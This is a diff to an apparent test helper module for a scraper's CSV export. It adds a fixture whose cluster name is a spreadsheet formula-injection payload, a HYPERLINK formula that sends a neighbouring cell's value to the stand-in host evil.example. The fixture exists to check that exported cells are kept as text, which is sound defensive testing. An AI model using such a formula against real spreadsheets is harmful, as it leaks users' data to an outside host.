@@ -32,6 +32,15 @@ def hostile_page(body: bytes) -> bytes:
     return body.replace(b"<td>Arena Eyde</td>", hostile.encode())
 
 
+# A cluster name a spreadsheet would run: a CSV cell must hold it as text (ecei.csv_cells)
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A2,"Arena Eyde")'
+
+
+def formula_page(body: bytes) -> bytes:
+    """A Norway page of the demo snapshot whose first cluster is named FORMULA_NAME (a mirror rewrite)."""
+    return body.replace(b"<td>Arena Eyde</td>", b"<td>" + FORMULA_NAME.replace("&", "&amp;").encode() + b"</td>")
+
+
 def stale_wal(beside: Path) -> Path:
     """A write-ahead log left by another database's process that died before its checkpoint."""
     other = beside.parent / "other-process.duckdb"
